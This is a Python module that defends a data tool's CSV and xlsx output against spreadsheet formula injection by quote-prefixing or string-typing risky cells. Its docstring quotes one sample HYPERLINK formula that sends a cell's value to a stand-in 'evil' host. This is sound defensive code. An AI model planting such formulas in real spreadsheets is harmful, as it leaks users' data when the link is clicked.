"""Text cells of every table sodkit writes (CSV and xlsx), made inert for spreadsheets.

Method, dataset and image names come from folder and file names, ``--pred NAME=DIR`` or a
received ``results.json``, and a spreadsheet reads a cell that starts with ``=``, ``+``, ``-``
or ``@`` as a formula: a method named ``=HYPERLINK("https://evil/?"&B3,"see")`` becomes a link
that sends a score away when clicked ("CSV injection", OWASP). Tab and carriage return are on
OWASP's list too (some programs skip them before looking), and so is leading space here, for
programs that trim cells on import.

* CSV: such a cell gets a leading ``'``, which every spreadsheet shows as text. A cell that
  starts with ``'`` itself gets one more, so :func:`restore` gives back every text exactly
  (``sodkit report`` reads ``results_per_image.csv`` back).
* xlsx: every text cell is a string cell (never a formula, whatever it starts with), and one
  that starts like a formula carries Excel's "quote prefix" style, so that editing the cell
  does not turn it into one either; its value is the exact text.

Numbers are written as numbers by the callers and never pass through here.
"""

from __future__ import annotations

from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _starts_like_a_formula(text: str) -> bool:
    return text[:1] in TRIGGERS or text.lstrip(" \t\r\n")[:1] in TRIGGERS


def inert(text: Any) -> str:
    """``text`` as a CSV cell no spreadsheet evaluates (see the module docstring)."""
    text = str(text)
    return QUOTE + text if text[:1] == QUOTE or _starts_like_a_formula(text) else text


def restore(cell: str) -> str:
    """The text :func:`inert` was given."""
    return cell[1:] if cell[:1] == QUOTE else cell


def text_cell(sheet: Any, row: int, column: int, text: Any) -> Any:
    """Write ``text`` into an openpyxl sheet as a string cell that is never a formula."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    text = ILLEGAL_CHARACTERS_RE.sub("\ufffd", str(text))  # XML has no control characters
    cell = sheet.cell(row, column)
    cell.value = text
    cell.data_type = "s"  # openpyxl makes any text that starts with "=" a formula
    if _starts_like_a_formula(text):
        cell.quotePrefix = True
    return cell
